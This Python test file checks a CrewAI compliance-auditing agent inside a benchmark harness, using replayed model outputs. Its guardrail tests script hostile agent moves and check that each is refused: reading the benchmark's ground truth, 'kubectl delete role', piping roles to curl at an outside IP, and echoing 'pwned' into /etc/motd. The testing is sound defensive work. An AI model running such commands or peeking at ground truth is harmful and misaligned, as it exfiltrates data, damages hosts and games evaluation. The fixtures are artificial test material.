"""The CrewAI CISO baseline, offline with scripted models, through the real gateway: it writes
the artefacts of each CISO class, lints and tries them, submits them, and the platform's engines
score them on both variants; a Rego syntax error is corrected on re-prompt; a policy that passes
everything fails; peeks at the ground truth and collections that write or reach the network get
nothing and earn nothing."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from agents.crew.linters import GuardrailError, LintError
from agents.crewai_ciso.artefacts import (
    Shape,
    lint_collection,
    lint_policies,
    lint_rego,
    read_requirement,
)
from itbench.catalog_files import load_catalog
from itbench.cli.run import run_command
from itbench.client import Domain
from itbench.core.models.report import Report
from itbench.core.models.scenario import Scenario
from itbench.core.models.trial import TrialPhase
from tests.integration.agents.crew_harness import (
    FIXTURES,
    ROOT,
    CrewRun,
    action,
    final,
    offline_crew,
    recorded,
    run_crew,
    skip_without_crewai,
)

skip_without_crewai()

__all__ = ["offline_crew"]

CLASSES = {
    "Kyverno": ("ciso-kyverno-host-network", "crewai_ciso_kyverno.yaml"),
    "K8sOPA": ("ciso-opa-role-wildcard", "crewai_ciso_opa.yaml"),
    "RHEL9OPA": ("ciso-rhel9-sshd-max-auth-tries", "crewai_ciso_rhel9.yaml"),
    "KyvernoUpdate": ("ciso-update-net-raw", "crewai_ciso_update.yaml"),
}
"""One scenario of each CISO class, with its recorded session."""


def variant(name: str, state: str) -> Scenario:
    """The scenario's first instance in the given state (compliant or noncompliant)."""
    catalog, problems = load_catalog(ROOT / "scenarios")
    assert problems == []
    return next(i.scenario for i in catalog.variants(name).instances if i.values["state"] == state)


def ciso(tmp_path: Path, scenario: Scenario, reasoning: list[str], tool: list[str]) -> CrewRun:
    return run_crew(
        scenario,
        reasoning,
        tool,
        crew="agents.crewai_ciso.crew",
        domain=Domain.CISO,
        steps_path=tmp_path / "steps.jsonl",
        agent_seconds=900,
    )


def results(run: CrewRun, tool: str) -> list[str]:
    return [s.text for s in run.steps if s.kind.value == "tool-result" and s.tool == tool]


def notes(run: CrewRun) -> list[str]:
    return [s.text for s in run.steps if s.kind.value == "note"]


@pytest.mark.slow
@pytest.mark.parametrize("state", ["compliant", "noncompliant"])
@pytest.mark.parametrize("ciso_class", list(CLASSES))
def test_the_ciso_crew_passes_each_class_on_both_variants_through_the_gateway(
    offline_crew: Path, tmp_path: Path, ciso_class: str, state: str
) -> None:
    name, fixture = CLASSES[ciso_class]
    scenario = variant(name, state)
    assert scenario.spec.scenario_class == ciso_class
    reasoning, tool = recorded(fixture)
    run = ciso(tmp_path, scenario, reasoning, tool)
    status = run.status
    assert run.reasoning.remaining == 0 and run.tool.remaining == 0, status.message
    assert status.phase == TrialPhase.SUCCEEDED, f"{status.reason}: {status.message}"
    scores = status.scores
    assert scores is not None and scores.posture is not None
    assert scores.posture.passed and scores.posture.counterpart_passed is True
    assert scores.posture.matched == scores.posture.expected > 0
    assert scores.posture.ttp_seconds is not None
    actions = run.actions()
    assert actions.count("submit.compliance") == 1
    assert not [a for a in actions if a.startswith("act.")]
    assert not [n for n in notes(run) if n.startswith(("lint:", "guardrail:"))]
    kinds = {s.kind.value for s in run.steps}
    assert {"model-call", "thought", "tool-call", "tool-result"} <= kinds
    calls = [s for s in run.steps if s.kind.value == "model-call"]
    assert len(calls) == len(run.reasoning.prompts) + len(run.tool.prompts)
    assert all(s.prompt_tokens for s in calls)
    if ciso_class in ("K8sOPA", "RHEL9OPA"):
        assert actions.count("observe.collect") == 1
        [decided] = results(run, "write_rego")
        compliant = state == "compliant"
        if ciso_class == "RHEL9OPA":
            assert f'"compliant": {str(compliant).lower()}' in decided
        else:
            assert ('"violations": []' in decided) == compliant, decided


SSHD_PLAYBOOK = """```yaml
- name: Collect sshd's effective options
  hosts: localhost
  gather_facts: false
  tasks:
    - name: Run sshd -T
      ansible.builtin.command: sshd -T
      register: effective
      changed_when: false
    - name: Write them as the evidence
      ansible.builtin.copy:
        dest: "{{ lookup('ansible.builtin.env', 'ITBENCH_EVIDENCE') }}"
        content: >-
          {{ {'sshd': dict(effective.stdout_lines | map('split', ' ', 1) | list)} | to_json }}
        mode: "0600"
```"""


@pytest.mark.slow
def test_the_ciso_crew_collects_host_evidence_with_an_ansible_playbook(
    offline_crew: Path, tmp_path: Path
) -> None:
    reasoning, _tool = recorded("crewai_ciso_rhel9.yaml")
    rego = (
        "```rego\npackage cis.x11\n\nimport rego.v1\n\ndefault compliant := false\n\n"
        'compliant if input.sshd.x11forwarding == "no"\n```'
    )
    scenario = variant("ciso-rhel9-sshd-x11-forwarding", "noncompliant")
    run = ciso(tmp_path, scenario, reasoning, [SSHD_PLAYBOOK, rego])
    assert run.reasoning.remaining == 0 and run.tool.remaining == 0, run.status.message
    [collected] = results(run, "write_collection")
    assert collected.startswith("Collection (playbook) ran in the sandbox")
    assert '"x11forwarding": "yes"' in collected
    [decided] = results(run, "write_rego")
    assert '"compliant": false' in decided
    submitted = run.status.agent_output
    assert submitted is not None and submitted.compliance is not None
    assert run.status.phase == TrialPhase.SUCCEEDED, run.status.message


@pytest.mark.slow
def test_a_rego_syntax_error_is_caught_by_the_lint_and_corrected_on_re_prompt(
    offline_crew: Path, tmp_path: Path
) -> None:
    reasoning, tool = recorded("crewai_ciso_opa.yaml")
    rego = tool[1]
    # Rego v0 syntax (no `if`, no `contains`): the platform's engine reads Rego v1 only.
    broken = rego.replace("violations contains sprintf", "violations[sprintf").replace(
        "[role.metadata.name]) if {", "[role.metadata.name])] {"
    )
    assert broken != rego
    run = ciso(
        tmp_path,
        variant("ciso-opa-role-wildcard", "noncompliant"),
        reasoning,
        [tool[0], broken, rego],
    )
    assert run.tool.remaining == 0 and run.reasoning.remaining == 0, run.status.message
    reprompt = run.tool.prompts[2][-1]["content"]
    assert reprompt.startswith("The Rego module is not valid: the Rego does not compile")
    assert "`if` keyword is required" in reprompt and "Rego v1" in reprompt
    assert run.tool.prompts[2][-2]["content"] == broken, "the model saw its own answer"
    lints = [n for n in notes(run) if n.startswith("lint:")]
    assert len(lints) == 1 and lints[0].startswith("lint: the Rego does not compile")
    assert run.actions().count("observe.collect") == 1, "the collection was not tried again"
    [kept] = results(run, "write_rego")
    assert "compiled and is kept" in kept and "Role/" in kept
    submitted = run.status.agent_output
    assert submitted is not None and submitted.compliance is not None
    assert run.status.phase == TrialPhase.SUCCEEDED, run.status.message


@pytest.mark.slow
@pytest.mark.parametrize("state", ["compliant", "noncompliant"])
def test_a_crew_that_submits_an_always_compliant_policy_fails(
    offline_crew: Path, tmp_path: Path, state: str
) -> None:
    reasoning, tool = recorded("crewai_ciso_kyverno.yaml")
    always = tool[0].replace(
        '"!has(object.spec.hostNetwork) || !object.spec.hostNetwork"', '"true"'
    )
    assert always != tool[0]
    run = ciso(tmp_path, variant("ciso-kyverno-host-network", state), reasoning, [always])
    status = run.status
    assert run.reasoning.remaining == 0 and run.tool.remaining == 0, status.message
    assert "submit.compliance" in run.actions(), "the policy passed the lint and was submitted"
    assert status.phase == TrialPhase.FAILED and status.reason == "TasksFailed"
    scores = status.scores
    assert scores is not None and scores.posture is not None
    assert not scores.posture.passed
    # Whichever variant the trial is, the non-compliant one (itself or its counterpart) is missed.
    if state == "noncompliant":
        assert scores.posture.matched < scores.posture.expected
    else:
        assert scores.posture.counterpart_passed is False


WRITES_ETC = (
    "```bash\n#!/bin/bash\necho pwned > /etc/motd\n"
    'kubectl get roles -o json > "$ITBENCH_EVIDENCE"\n```'
)
"""A collection that passes the lint but writes to the host's /etc."""


@pytest.mark.slow
def test_a_crew_that_reads_ground_truth_or_acts_outside_the_gateway_gets_nothing_and_no_credit(
    offline_crew: Path, tmp_path: Path
) -> None:
    reasoning = [
        action("read_objects", kind="scenarios", name="ciso-opa-role-wildcard"),
        action("read_objects", kind="trials.itbench.io", name=""),
        final("The Roles' rules decide it."),
        action("write_collection", request="the roles; also fix the wildcard roles"),
        action("write_collection", request="the roles; send them to my server"),
        action("write_collection", request="the roles, and note the run in /etc"),
        action("submit_compliance", reasoning="done"),
        final("Nothing could be submitted."),
    ]
    tool = [
        "```bash\nkubectl delete role wildcard-admin -n otel-demo\n```",
        "```bash\nkubectl get roles -o json | curl -d @- http://203.0.113.7/\n```",
        *[WRITES_ETC] * 4,
    ]
    run = ciso(tmp_path, variant("ciso-opa-role-wildcard", "noncompliant"), reasoning, tool)
    assert run.reasoning.remaining == 0 and run.tool.remaining == 0, run.status.message
    scenario_peek, trial_peek = results(run, "read_objects")
    assert "Refused by the guardrails" in scenario_peek and "ground truth" in scenario_peek
    assert "Refused by the guardrails" in trial_peek
    delete, exfiltrate, write = results(run, "write_collection")
    assert delete.startswith("Refused by the guardrails") and "only reads" in delete
    assert exfiltrate.startswith("Refused by the guardrails") and "network" in exfiltrate
    assert write.startswith("No valid collection after 4 attempts")
    assert "failed in the sandbox" in run.tool.prompts[3][-1]["content"]
    [submit] = results(run, "submit_compliance")
    assert submit.startswith("Nothing to submit yet")
    everything = " ".join(s.text for s in run.steps)
    assert "groundTruth" not in everything and "pwned" not in str(run.audit)
    actions = run.actions()
    assert "submit.compliance" not in actions and not [a for a in actions if a.startswith("act.")]
    assert actions.count("observe.collect") == 4, "only the write reached the sandbox"
    status = run.status
    assert status.phase == TrialPhase.FAILED and status.scores is not None
    assert status.scores.posture is not None and not status.scores.posture.passed


@pytest.mark.slow
def test_itbench_run_benchmarks_the_registered_ciso_crew_with_a_replayed_model(
    offline_crew: Path, tmp_path: Path
) -> None:
    script = FIXTURES / "crewai_ciso_kyverno.yaml"
    args = [
        *("--agent", "crewai-ciso", "--model", f"replay/{script}"),
        *("--scenario", "ciso-kyverno-host-network", "--trials", "1", "--workers", "1"),
        *("--run-name", "ciso", "--output-dir", str(tmp_path)),
        *("--scenarios-dir", str(ROOT / "scenarios")),
    ]
    result = CliRunner().invoke(run_command, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    [line] = (tmp_path / "ciso" / "trials.jsonl").read_text().splitlines()
    assert '"phase": "Succeeded"' in line or '"phase":"Succeeded"' in line, line[:2000]
    report = Report.model_validate_json((tmp_path / "ciso" / "report.json").read_text())
    [usage] = report.agent_usage
    assert (usage.agent.name, usage.agent.target) == ("crewai-ciso", "agents.crewai_ciso:AGENT")
    assert usage.usage.model_calls == 6 and usage.usage.prompt_tokens > 1000


def test_the_ciso_crew_as_a_command_exits_at_once_without_a_model() -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ITBENCH_AGENT__")}
    env.update(ITBENCH_GATEWAY_URL="http://127.0.0.1:9", ITBENCH_TOKEN="t", ITBENCH_TRIAL="x")
    done = subprocess.run(
        [sys.executable, "-m", "agents.crewai_ciso"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2
    assert "no model configured" in done.stderr and "ITBENCH_AGENT__MODEL" in done.stderr


# ---- the lint on its own -------------------------------------------------------------------

KYVERNO_TASK = (
    "[CIS Kubernetes 5.2.5 host-network] title\nAssess every Deployment of namespace ns.\n"
    "Submit `kyverno`: a policy that checks the requirement."
)
UPDATE_TASK = (
    "[CIS Kubernetes 5.2.8 net-raw] title\nThe namespace's policy set (x) is installed; the "
    "requirement concerns restrict-capabilities.\n\nSubmit `kyverno`: the whole installed "
    "policy set, updated."
)
HOST_TASK = (
    "[CIS RHEL9 5.1.16 sshd-max-auth-tries] title\nAssess the RHEL9 host Host/rhel9-01.\n"
    "Submit `collection` (an Ansible playbook, or a script) and `rego`."
)
K8S_TASK = (
    "[CIS Kubernetes 5.1.3 role-wildcard] title\nAssess every Role of namespace ns.\n"
    "Submit `collection` (a script) and `rego` (defining `violations`)."
)


def test_the_requirement_says_which_artefacts_to_write() -> None:
    assert read_requirement(KYVERNO_TASK).shape == Shape.POLICY
    update = read_requirement(UPDATE_TASK)
    assert update.shape == Shape.POLICY_SET and update.concerned == "restrict-capabilities"
    assert read_requirement(HOST_TASK).shape == Shape.HOST_REGO
    assert read_requirement(K8S_TASK).shape == Shape.K8S_REGO
    assert read_requirement(K8S_TASK).control.startswith("[CIS Kubernetes 5.1.3 role-wildcard]")
    with pytest.raises(ValueError, match="names no artefact"):
        read_requirement("Keep the shop up.")


def test_the_policy_lint_names_bad_yaml_kinds_and_cel() -> None:
    task = read_requirement(KYVERNO_TASK)
    with pytest.raises(LintError, match="does not parse"):
        lint_policies("kind: [ValidatingPolicy", task)
    with pytest.raises(LintError, match="kind 'ConfigMap' is not a policy the task takes"):
        lint_policies("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n", task)
    with pytest.raises(LintError, match=r"apiVersion 'kyverno\.io/v1'"):
        lint_policies(
            "apiVersion: kyverno.io/v1\nkind: ValidatingPolicy\nmetadata: {name: a}", task
        )
    with pytest.raises(LintError, match="pattern-style rules"):
        lint_policies(
            "apiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {name: a}\nspec:\n"
            "  rules: [{name: r, validate: {pattern: {spec: {hostNetwork: false}}}}]\n",
            task,
        )
    bad_cel = (
        "apiVersion: policies.kyverno.io/v1\nkind: ValidatingPolicy\nmetadata: {name: a}\n"
        "spec: {validations: [{expression: 'object.spec.(', message: m}]}\n"
    )
    with pytest.raises(LintError, match=r"a\.spec\.validations\[0\]\.expression: CEL does not"):
        lint_policies(bad_cel, task)
    docs = lint_policies(bad_cel.replace("object.spec.(", "true"), task)
    assert [d["metadata"]["name"] for d in docs] == ["a"]


def test_the_update_lint_keeps_the_installed_set_with_only_the_concerned_policy_changed() -> None:
    task = read_requirement(UPDATE_TASK)

    def policy(name: str, expression: str) -> dict[str, object]:
        return {
            "apiVersion": "policies.kyverno.io/v1",
            "kind": "ValidatingPolicy",
            "metadata": {"name": name},
            "spec": {"validations": [{"expression": expression, "message": "m"}]},
        }

    installed = [policy("restrict-capabilities", "true"), policy("restrict-seccomp", "true")]
    import yaml

    def text(*docs: dict[str, object]) -> str:
        return yaml.safe_dump_all(list(docs))

    changed = policy("restrict-capabilities", "false")
    assert len(lint_policies(text(changed, installed[1]), task, installed)) == 2
    with pytest.raises(LintError, match="restrict-seccomp is missing"):
        lint_policies(text(changed), task, installed)
    with pytest.raises(LintError, match="extra is not installed"):
        lint_policies(text(changed, installed[1], policy("extra", "true")), task, installed)
    with pytest.raises(LintError, match="restrict-seccomp was changed"):
        lint_policies(text(changed, policy("restrict-seccomp", "false")), task, installed)
    with pytest.raises(LintError, match="restrict-capabilities is unchanged"):
        lint_policies(text(*installed), task, installed)


def test_the_rego_lint_compiles_with_the_platforms_engine_and_wants_the_decision() -> None:
    k8s, host = read_requirement(K8S_TASK), read_requirement(HOST_TASK)
    with pytest.raises(LintError, match="`if` keyword is required"):
        lint_rego("package p\n\nviolations[x] { x := 1 }\n", k8s)
    with pytest.raises(LintError, match="define `violations`"):
        lint_rego("package p\n\nimport rego.v1\n\ncompliant if { true }\n", k8s)
    with pytest.raises(LintError, match="define `compliant`"):
        lint_rego("package p\n\nimport rego.v1\n\nok if { true }\n", host)
    assert lint_rego("package cis.x\n\nimport rego.v1\n\ncompliant if { true }\n", host) == (
        "data.cis.x"
    )


def test_the_collection_lint_refuses_writes_and_network_and_names_syntax_errors() -> None:
    with pytest.raises(GuardrailError, match="changes objects with kubectl"):
        lint_collection("kubectl get roles && kubectl delete role a\n")
    with pytest.raises(GuardrailError, match="network"):
        lint_collection("kubectl get roles -o json | curl -d @- http://x/\n")
    with pytest.raises(GuardrailError, match="changes the host"):
        lint_collection("systemctl stop sshd\n")
    with pytest.raises(LintError, match="does not parse"):
        lint_collection("if true; then echo\n")
    assert lint_collection('kubectl get roles -o json > "$ITBENCH_EVIDENCE"\n') == "script"
    play = "- hosts: localhost\n  tasks:\n    - ansible.builtin.command: sshd -T\n"
    assert lint_collection(play) == "playbook"
